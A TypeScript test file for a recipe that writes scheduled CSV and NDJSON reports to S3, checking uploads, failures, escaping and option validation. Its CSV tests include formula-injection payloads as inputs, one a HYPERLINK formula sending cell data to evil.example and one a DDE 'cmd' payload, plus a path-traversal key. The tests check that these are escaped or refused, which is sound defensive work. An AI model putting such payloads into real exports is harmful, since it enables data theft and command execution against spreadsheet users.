import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { setImmediate } from 'node:timers/promises';
import { gunzipSync } from 'node:zlib';
import { OptionsError } from '@amplify-recipes/core';
import {
  captureOutput,
  invoke,
  lambdaContext,
  scheduleRuleEvent,
  schedulerEvent,
} from '@amplify-recipes/core/testing';
import { type HttpAnswer, type HttpServer, startHttpServer } from '@amplify-recipes/recipe-tests';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { type ReportToS3Options, reportToS3 } from './recipe.js';

const MiB = 1024 * 1024;

/** The failures of S3, by operation. Each is sent once, in order. */
let failures: Record<string, HttpAnswer[]>;
let s3: HttpServer;

/** The operation of a request to S3: `PutObject`, `UploadPart 2`. */
function operationOf(method: string, path: string): string {
  const query = new URL(path, 'http://s3').searchParams;
  if (query.has('uploads')) return 'CreateMultipartUpload';
  if (query.has('partNumber')) return `UploadPart ${query.get('partNumber')}`;
  if (method === 'DELETE') return 'AbortMultipartUpload';
  return query.has('uploadId') ? 'CompleteMultipartUpload' : 'PutObject';
}

function answerOf(operation: string): HttpAnswer {
  const failure = failures[operation]?.shift();
  if (failure !== undefined) return failure;
  if (operation === 'CreateMultipartUpload') {
    return {
      body: "<InitiateMultipartUploadResult><UploadId>id+'1</UploadId></InitiateMultipartUploadResult>",
    };
  }
  return operation === 'CompleteMultipartUpload'
    ? { body: '<CompleteMultipartUploadResult/>' }
    : { headers: { etag: `"${operation}"` } };
}

const failure = (status: number, code: string): HttpAnswer => ({
  status,
  body: `<Error><Code>${code}</Code><Message>no</Message></Error>`,
});

beforeEach(async () => {
  failures = {};
  s3 = await startHttpServer(({ method, path }) => answerOf(operationOf(method, path)));
  vi.stubEnv('AWS_ENDPOINT_URL', s3.url);
  vi.stubEnv('AWS_REGION', 'eu-west-1');
  vi.stubEnv('AWS_ACCESS_KEY_ID', 'ASIAEXAMPLEEXAMPLE00');
  vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'secret');
  vi.stubEnv('MY_REPORTS_BUCKET_NAME', 'reports');
});

afterEach(async () => {
  vi.unstubAllEnvs();
  await s3.stop();
});

const operations = () => s3.requests.map(({ method, path }) => operationOf(method, path));

const options = (overrides: Partial<ReportToS3Options> = {}): ReportToS3Options => ({
  format: 'csv',
  key: ({ date }) => `reports/${date}.csv`,
  rows: [
    { name: 'Ada', born: 1815 },
    { name: 'Grace', born: 1906 },
  ],
  ...overrides,
});

function report(overrides: Partial<ReportToS3Options> = {}, context = lambdaContext()) {
  return captureOutput(() => invoke(reportToS3(options(overrides)), schedulerEvent(), context));
}

/** Runs a report in a function whose time is over after S3 has the first part. */
async function reportOutOfTime(overrides: Partial<ReportToS3Options>) {
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
  try {
    const running = report(overrides, lambdaContext({ getRemainingTimeInMillis: () => 10_000 }));
    while (!operations().includes('UploadPart 1')) await setImmediate();
    vi.advanceTimersByTime(8000);
    return await running;
  } finally {
    vi.useRealTimers();
  }
}

/** The content of the written object. */
async function written(overrides: Partial<ReportToS3Options>): Promise<string> {
  const { error } = await report(overrides);
  expect(error).toBeUndefined();
  return s3.requests.at(-1)?.body ?? '';
}

/** The number and the ETag of each part in the body of a completion. */
function partsOf(xml = ''): [number, string][] {
  return xml
    .split('<Part>')
    .slice(1)
    .map((part) => {
      const eTag = /<ETag>([^<]+)</.exec(part)?.[1] ?? '';
      return [Number(/<PartNumber>(\d+)</.exec(part)?.[1]), eTag.replaceAll('&quot;', '"')];
    });
}

/** Rows of one mebibyte each. */
async function* mebibytes(count: number) {
  for (let row = 0; row < count; row += 1) yield { text: 'x'.repeat(MiB - 12) };
}

/** An object that contains itself, and one that occurs twice. */
const loop: Record<string, unknown> = { a: 1 };
loop.self = loop;
const twice = { a: 1 };

/** The names that every object inherits. */
const INHERITED = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'];

describe('report-to-s3', () => {
  it('writes a report if its key is free, with the scheduled time in the key', async () => {
    const { result, lines } = await report();
    expect(s3.requests).toMatchObject([
      {
        method: 'PUT',
        path: '/reports/reports/2026-11-22.csv?x-id=PutObject',
        body: '"name","born"\r\n"Ada",1815\r\n"Grace",1906\r\n',
        headers: {
          'if-none-match': '*',
          'content-type': 'text/csv; charset=utf-8',
          'content-disposition': "attachment; filename*=UTF-8''2026-11-22.csv",
        },
      },
    ]);
    expect(result).toEqual({
      outcome: 'WRITTEN',
      bucketName: 'reports',
      key: 'reports/2026-11-22.csv',
      rows: 2,
      bytes: 41,
    });
    expect(lines).toMatchObject([
      {
        message: 'report-to-s3 is done',
        scheduledTime: '2026-11-22T10:00:00Z',
        rows: 2,
        bytes: 41,
      },
    ]);
  });

  it.each([
    ['a rule of EventBridge', scheduleRuleEvent()],
    ['a custom Input', { time: '2026-11-22T10:00:00Z' }],
    ['an attempt some seconds later', schedulerEvent({ time: '2026-11-22T10:00:59Z' })],
  ])('has the same key for %s', async (_, event) => {
    const { result } = await captureOutput(() => invoke(reportToS3(options()), event));
    expect(result?.key).toBe('reports/2026-11-22.csv');
  });

  it('passes the time in the time zone of the options to key and rows', async () => {
    const key = vi.fn(() => 'a');
    const rows = vi.fn(() => []);
    await report({ key, rows, timeZone: 'Pacific/Kiritimati' });
    expect(key).toHaveBeenCalledWith(expect.objectContaining({ date: '2026-11-23', hour: '00' }));
    expect(rows).toHaveBeenCalledWith(
      expect.objectContaining({ scheduledTime: key.mock.calls.flat()[0], detail: {} }),
    );
  });

  it('does not change an existing report, and succeeds', async () => {
    failures = { PutObject: [failure(412, 'PreconditionFailed')] };
    const { result, error } = await report();
    expect(error).toBeUndefined();
    expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
  });

  it('succeeds if a response was lost and it finds its own report', async () => {
    failures = { PutObject: ['hang up', failure(412, 'PreconditionFailed')] };
    expect((await report()).result).toMatchObject({ outcome: 'ALREADY_THERE' });
  });

  it('starts again if another run writes the same report at the same time', async () => {
    failures = { PutObject: [failure(409, 'ConditionalRequestConflict')] };
    const rows = vi.fn(() => [{ a: 1 }]);
    expect((await report({ rows })).result).toMatchObject({ outcome: 'WRITTEN', rows: 1 });
    expect(rows).toHaveBeenCalledTimes(2);
  });

  it('sends a long report in parts, and completes it only if the key is free', async () => {
    const rows = () => mebibytes(20);
    const { result } = await report({ rows, format: 'ndjson' });
    expect(operations()).toEqual([
      'CreateMultipartUpload',
      'UploadPart 1',
      'UploadPart 2',
      'UploadPart 3',
      'CompleteMultipartUpload',
    ]);
    const [begun, ...parts] = s3.requests;
    expect(begun?.headers).toMatchObject({
      'content-type': 'application/x-ndjson; charset=utf-8',
      'content-disposition': expect.stringContaining('2026-11-22.csv'),
    });
    expect(begun?.headers).not.toHaveProperty('if-none-match');
    const completed = parts.pop();
    expect(completed?.headers).toMatchObject({ 'if-none-match': '*' });
    expect(completed?.path).toContain('uploadId=id%2B%271');
    expect(partsOf(completed?.body)).toEqual(
      [1, 2, 3].map((part) => [part, `"UploadPart ${part}"`]),
    );
    const sizes = parts.map(({ body }) => body.length);
    expect(Math.min(...sizes.slice(0, -1))).toBeGreaterThanOrEqual(5 * MiB);
    expect(sizes.reduce((sum, size) => sum + size)).toBe(20 * MiB);
    expect(result).toMatchObject({ rows: 20, bytes: 20 * MiB });
  });

  it('completes a long report again after a failure with status 200', async () => {
    failures = { CompleteMultipartUpload: [failure(200, 'InternalError')] };
    const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
    expect(result).toMatchObject({ outcome: 'WRITTEN' });
    expect(operations().slice(-2)).toEqual(Array(2).fill('CompleteMultipartUpload'));
  });

  it('reads rows no faster than S3 accepts them, for a report of any length', async () => {
    let sent = 0;
    let taken = 0;
    let lead = 0;
    const server = createServer(async (request, response) => {
      for await (const chunk of request) taken += chunk.length;
      const { body, headers } = answerOf(operationOf(request.method ?? '', request.url ?? '')) as {
        body?: string;
        headers?: Record<string, string>;
      };
      response.writeHead(200, headers).end(body);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    vi.stubEnv('AWS_ENDPOINT_URL', `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    async function* rows() {
      for await (const row of mebibytes(200)) {
        sent += MiB;
        lead = Math.max(lead, sent - taken);
        yield row;
      }
    }
    try {
      const handler = reportToS3(options({ rows, format: 'csv' }));
      const context = lambdaContext({ getRemainingTimeInMillis: () => 60_000 });
      const { result } = await captureOutput(() => invoke(handler, schedulerEvent(), context));
      expect(result?.bytes).toBeGreaterThan(200 * MiB - 10_000);
      // A part, the buffers of the streams, and rows of a mebibyte.
      expect(lead).toBeLessThan(48 * MiB);
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  describe('leaves no parts, and no report,', () => {
    it.each<[string, Partial<Record<string, HttpAnswer[]>>, string]>([
      [
        'a part is refused',
        { 'UploadPart 2': [failure(403, 'AccessDenied')] },
        'with AccessDenied, 403',
      ],
      [
        'the completion is refused',
        { CompleteMultipartUpload: [failure(400, 'InvalidPart')] },
        'with InvalidPart, 400',
      ],
      [
        'the completion fails with status 200, each time',
        { CompleteMultipartUpload: Array(4).fill(failure(200, 'InternalError')) },
        'with InternalError, 503',
      ],
      [
        'the completion is cut off, each time',
        { CompleteMultipartUpload: Array(4).fill({}) },
        'with InternalError, 503',
      ],
    ])('when %s', async (_, given, message) => {
      failures = given as typeof failures;
      const { error } = await report({ rows: () => mebibytes(20), format: 'ndjson' });
      expect(String(error)).toContain(message);
      expect(operations().at(-1)).toBe('AbortMultipartUpload');
    });

    it('when the report exists already', async () => {
      failures = { CompleteMultipartUpload: [failure(412, 'PreconditionFailed')] };
      const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
      expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
      expect(operations().at(-1)).toBe('AbortMultipartUpload');
    });

    it('when another run is writing the report, and then sends it again', async () => {
      failures = { CompleteMultipartUpload: [failure(409, 'ConditionalRequestConflict')] };
      const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
      expect(result).toMatchObject({ outcome: 'WRITTEN' });
      expect(operations()).toEqual([
        'CreateMultipartUpload',
        'UploadPart 1',
        'CompleteMultipartUpload',
        'AbortMultipartUpload',
        'CreateMultipartUpload',
        'UploadPart 1',
        'CompleteMultipartUpload',
      ]);
    });

    it.each(['csv', 'ndjson'] as const)('when a row of %s fails', async (format) => {
      async function* rows() {
        yield* mebibytes(50);
        throw new Error('The table is gone: ada@example.com');
      }
      const { error, text } = await report({ rows, format });
      expect(error).toMatchObject({ message: expect.stringContaining('failed with Error.') });
      expect(text).not.toContain('ada@');
      expect(operations().slice(0, 2)).toEqual(['CreateMultipartUpload', 'UploadPart 1']);
      expect(operations().at(-1)).toBe('AbortMultipartUpload');
    });

    it.each(['csv', 'ndjson'] as const)(
      'when rows of %s do not come before the time is over, and logs it',
      async (format) => {
        async function* rows() {
          yield* mebibytes(9);
          await new Promise(() => {});
        }
        const { error } = await reportOutOfTime({ rows, format });
        expect(error).toMatchObject({ message: expect.stringContaining('ran out of time') });
        expect(operations().at(-1)).toBe('AbortMultipartUpload');
      },
    );

    it('when S3 does not answer before the time is over', async () => {
      failures = { 'UploadPart 1': ['silence'] };
      const { error } = await reportOutOfTime({ rows: () => mebibytes(20), format: 'ndjson' });
      expect(error).toMatchObject({ message: expect.stringContaining('ran out of time') });
      expect(operations().at(-1)).toBe('AbortMultipartUpload');
    });

    it('or logs that they cannot be removed', async () => {
      failures = {
        'UploadPart 1': [failure(403, 'AccessDenied')],
        AbortMultipartUpload: [failure(403, 'AccessDenied')],
      };
      const { lines } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
      expect(lines).toMatchObject([
        { level: 'WARN', message: expect.stringContaining('could not remove the parts') },
        { level: 'ERROR', message: 'report-to-s3 failed' },
      ]);
    });
  });

  describe('as CSV', () => {
    it.each<[string, unknown, string]>([
      ['a text', 'Ada', '"Ada"'],
      ['a quote', 'the "Countess"', '"the ""Countess"""'],
      ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
      ['lines', 'one\r\ntwo', '"one\r\ntwo"'],
      ['other languages', 'Zoë 数', '"Zoë 数"'],
      ['nothing', undefined, ''],
      ['null', null, ''],
      ['an empty text', '', '""'],
      ['a number', 1.5, '1.5'],
      ['a negative number', -1, '-1'],
      ['a large number', -(10n ** 20n), '-100000000000000000000'],
      ['true', true, 'true'],
      ['false', false, 'false'],
      ['a date', new Date('2026-11-22T10:00:00Z'), '2026-11-22T10:00:00.000Z'],
      ['an invalid date', new Date(Number.NaN), ''],
      ['not a number', Number.NaN, ''],
      ['infinity', Number.POSITIVE_INFINITY, ''],
      ['negative infinity', Number.NEGATIVE_INFINITY, ''],
      ['negative zero', -0, '0'],
      ['a function', () => 'Ada', ''],
      ['a symbol', Symbol('Ada'), ''],
      ['an object whose JSON is undefined', { toJSON: () => undefined }, ''],
      ['an object', { a: [1n] }, '"{""a"":[""1""]}"'],
      [
        'unusual values in an object',
        { a: [Number.NaN, new Date('x'), Symbol('a')] },
        '"{""a"":[null,null,null]}"',
      ],
      ['an object that contains itself', loop, '"{""a"":1,""self"":null}"'],
      ['one object twice', [twice, [twice]], '"[{""a"":1},[{""a"":1}]]"'],
      [
        'a formula',
        '=HYPERLINK("http://evil.example/"&A1)',
        '"\'=HYPERLINK(""http://evil.example/""&A1)"',
      ],
      ['a formula with a plus', "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
      ['a formula with a minus', '-2+3', '"\'-2+3"'],
      ['a formula with an at sign', '@SUM(1+1)', '"\'@SUM(1+1)"'],
      ['a formula behind a tab', '\t=1+1', '"\'\t=1+1"'],
      ['a formula behind a carriage return', '\r=1+1', '"\'\r=1+1"'],
      ['a formula behind a line feed', '\n=1+1', '"\'\n=1+1"'],
      ['a formula with a full-width equals sign', '＝1+1', '"\'＝1+1"'],
      ['a formula behind a quote', '"=1+1', '"""=1+1"'],
      ['a formula behind a delimiter', 'a,=1+1', '"a,=1+1"'],
    ])('writes %s', async (_, value, expected) => {
      expect(await written({ rows: [{ value }] })).toBe(`"value"\r\n${expected}\r\n`);
    });

    it('escapes a formula in the name of a column', async () => {
      expect(await written({ rows: [{ '=1+1': 1 }] })).toBe('"\'=1+1"\r\n1\r\n');
    });

    it.each<[string, Partial<ReportToS3Options>, string]>([
      ['columns by name, in order', { columns: ['b', 'a'] as never[] }, '"b","a"\r\n2,1\r\n'],
      ['columns that rows lack', { columns: ['a', 'c'] as never[] }, '"a","c"\r\n1,\r\n'],
      ['another delimiter', { delimiter: ';' }, '"a";"b"\r\n1;2\r\n'],
    ])('has %s', async (_, overrides, expected) => {
      expect(await written({ rows: [{ a: 1, b: 2 }], ...overrides })).toBe(expected);
    });

    it('begins with a byte order mark, with byteOrderMark', async () => {
      const unmarked = await report();
      const marked = await report({ byteOrderMark: true });
      expect(Number(marked.result?.bytes) - Number(unmarked.result?.bytes)).toBe(3);
    });

    it.each<[string, Partial<ReportToS3Options>, string]>([
      ['nothing, without rows', {}, ''],
      ['the header, without rows but with columns', { columns: ['a'] as never[] }, '"a"\r\n'],
    ])('has %s', async (_, overrides, expected) => {
      expect(await written({ rows: [], ...overrides })).toBe(expected);
    });

    it('has cells for own properties of a row, and none for inherited ones', async () => {
      const names = [...INHERITED, 'name'];
      const [header, row] = [names.map((name) => `"${name}"`), names.map(() => '')];
      const columns = names as never[];
      expect(await written({ columns, rows: [{ a: 1 }, Object.create({ name: 'Ada' })] })).toBe(
        [header, row, row].map((cells) => `${cells}\r\n`).join(''),
      );
    });

    it.each(INHERITED)('has a column with the name %s', async (name) => {
      const own = JSON.parse(`{"${name}":"Ada"}`);
      expect(await written({ rows: [own, {}] })).toBe(`"${name}"\r\n"Ada"\r\n\r\n`);
    });

    it('fails if a row has a column that the first row does not have', async () => {
      const { error } = await report({ rows: [{ a: 1 }, { a: 1, 'ada@example.com': 2 }] });
      expect(error).toMatchObject({
        message: expect.stringContaining('Name all columns in the option "columns".'),
      });
      expect(s3.requests).toEqual([]);
    });
  });

  describe('as NDJSON', () => {
    const deep = (depth: number) => {
      let value: object = {};
      for (let level = 1; level < depth; level += 1) value = { a: value };
      return value;
    };

    it.each<[string, object, string]>([
      ['an invalid date', { a: new Date(Number.NaN) }, '{"a":null}'],
      ['NaN and infinity', { a: [Number.NaN, Number.NEGATIVE_INFINITY] }, '{"a":[null,null]}'],
      ['a function and a symbol', { a: () => 1, b: Symbol('b'), c: 1 }, '{"c":1}'],
      ['inherited properties', Object.create({ name: 'Ada' }), '{}'],
      ['an own __proto__', JSON.parse('{"__proto__":1}'), '{"__proto__":1}'],
      ['a row that contains itself', loop, '{"a":1,"self":null}'],
      ['one object twice', { b: twice, c: [twice] }, '{"b":{"a":1},"c":[{"a":1}]}'],
      ['a row whose JSON is undefined', { toJSON: () => undefined }, 'null'],
      ['1,000 objects in each other', deep(1000), JSON.stringify(deep(1000))],
    ])('writes %s', async (_, row, expected) => {
      expect(await written({ rows: [row, { b: 1 }], format: 'ndjson' })).toBe(
        `${expected}\n{"b":1}\n`,
      );
    });

    it('cuts deeper objects, and endless ones, without an error', async () => {
      const endless = { toJSON: () => ({ endless }) };
      const lines = await written({ rows: [deep(100_000), endless], format: 'ndjson' });
      expect(
        lines
          .trim()
          .split('\n')
          .map((line) => line.match(/:/g)?.length),
      ).toEqual([1000, 1000]);
      expect(lines).toMatch(/^(?:\{"a":){1000}null\}{1000}\n/);
    });

    it('writes one object per line', async () => {
      const rows = [{ text: 'a\nb', n: 10n ** 20n, d: new Date(0) }, { '=': '=1+1' }];
      expect(await written({ rows, format: 'ndjson' })).toBe(
        '{"text":"a\\nb","n":"100000000000000000000","d":"1970-01-01T00:00:00.000Z"}\n{"=":"=1+1"}\n',
      );
    });
  });

  it('compresses, and sets the content encoding', async () => {
    let body = Buffer.alloc(0);
    const server = createServer(async (request, response) => {
      expect(request.headers['content-encoding']).toBe('gzip');
      body = Buffer.concat(await request.toArray());
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    vi.stubEnv('AWS_ENDPOINT_URL', `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    try {
      expect((await report({ gzip: true })).error).toBeUndefined();
      expect(gunzipSync(body).toString()).toBe('"name","born"\r\n"Ada",1815\r\n"Grace",1906\r\n');
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  it.each<[string, unknown]>([
    ['a text', ['Ada']],
    ['null', [null]],
  ])('refuses a row that is %s', async (_, rows) => {
    const { error } = await report({ rows: rows as object[] });
    expect(error).toMatchObject({ message: 'A row is not an object.' });
    expect(s3.requests).toEqual([]);
  });

  it.each([
    ['an empty key', ''],
    ['a key with a parent folder', 'reports/../secrets.csv'],
    ['a key of dots', 'reports/.'],
    ['a key that begins with a slash', '/reports.csv'],
    ['a key with a line break', 'reports\n.csv'],
    ['a key of half a character', 'reports\uD800.csv'],
    ['a key of over 1,024 bytes', 'ä'.repeat(513)],
    ['no text', 5 as unknown as string],
  ])('refuses %s, and reads no rows', async (_, key) => {
    const rows = vi.fn(() => []);
    const { error } = await report({ key: () => key, rows });
    expect(error).toMatchObject({ message: expect.stringContaining('The key is not valid.') });
    expect(rows).not.toHaveBeenCalled();
  });

  it('writes to exactly the given key', async () => {
    const key = "a b+c/ä%2F?#&'()*~.csv";
    const { result } = await report({ key: () => key });
    const [request] = s3.requests;
    expect(result).toMatchObject({ key });
    expect(request?.path).toBe(
      '/reports/a%20b%2Bc/%C3%A4%252F%3F%23%26%27%28%29%2A~.csv?x-id=PutObject',
    );
    expect(request?.headers['content-disposition']).toBe(
      "attachment; filename*=UTF-8''%C3%A4%252F%3F%23%26%27%28%29%2A~.csv",
    );
  });

  it.each<[string, Record<string, string | undefined>, string]>([
    ['the only bucket', {}, 'reports'],
    [
      'the one for reports',
      { REPORTS_BUCKET_NAME: 'mine', UPLOADS_BUCKET_NAME: 'uploads' },
      'mine',
    ],
    [
      'the one without a prefix',
      { MY_REPORTS_BUCKET_NAME: undefined, BUCKET_NAME: 'mine' },
      'mine',
    ],
  ])('uses %s from the environment', async (_, environment, expected) => {
    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
    expect((await report()).result).toMatchObject({ bucketName: expected });
  });

  it.each<[string, Record<string, string | undefined>, string]>([
    ['has none', { MY_REPORTS_BUCKET_NAME: undefined }, 'Allow the function to write to a bucket.'],
    [
      'has several',
      { UPLOADS_BUCKET_NAME: 'uploads' },
      'MY_REPORTS_BUCKET_NAME, UPLOADS_BUCKET_NAME',
    ],
    [
      'has one that Amplify could not read',
      { MY_REPORTS_BUCKET_NAME: '<value will be resolved during runtime>' },
      'bucketName is missing',
    ],
  ])('does not start if the environment %s', (_, environment, problem) => {
    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
    expect(() => reportToS3(options())).toThrow(OptionsError);
    expect(() => reportToS3(options())).toThrow(problem);
  });

  it.each<[string, object, string]>([
    ['a generator, which can be read only once', { rows: mebibytes(1) }, 'a function that returns'],
    ['an iterator', { rows: [].values() }, 'a function that returns'],
    ['a stream', { rows: Readable.from([]) }, 'a function that returns'],
    ['no rows', { rows: undefined }, 'rows is missing'],
    ['a text as the key', { key: 'reports/a.csv' }, 'key is not valid. Give a function.'],
    ['another format', { format: 'xlsx' }, 'format is not valid'],
    ['columns of ndjson', { format: 'ndjson', columns: ['a'] }, 'Only the format csv'],
    ['no columns', { columns: [] }, 'Name at least one.'],
    ['a column twice', { columns: ['a', 'a'] }, 'Name each once.'],
    ['an invalid delimiter', { delimiter: 'x' }, 'delimiter is not valid'],
    [
      'a time zone that does not exist',
      { timeZone: 'Europe/Atlantis' },
      'IANA name of a time zone',
    ],
    ['a bucket by its ARN', { bucketName: 'arn:aws:s3:::reports' }, 'bucketName is not valid'],
    ['an unknown option', { prefix: 'a' }, 'prefix is not an option'],
  ])('refuses %s before the first event', (_, changes, problem) => {
    expect(() => reportToS3({ ...options(), ...changes })).toThrow(OptionsError);
    expect(() => reportToS3({ ...options(), ...changes })).toThrow(problem);
  });

  it('refuses an event that is not from a schedule, and writes nothing', async () => {
    const { error } = await captureOutput(() =>
      invoke(reportToS3(options()), JSON.parse('{"Records":[]}')),
    );
    expect(error).toMatchObject({ message: expect.stringContaining('no event of a schedule') });
    expect(s3.requests).toEqual([]);
  });

  it('does not change the event', async () => {
    const event = Object.freeze(schedulerEvent());
    await captureOutput(() => invoke(reportToS3(options()), event));
    expect(event).toEqual(schedulerEvent());
  });
});
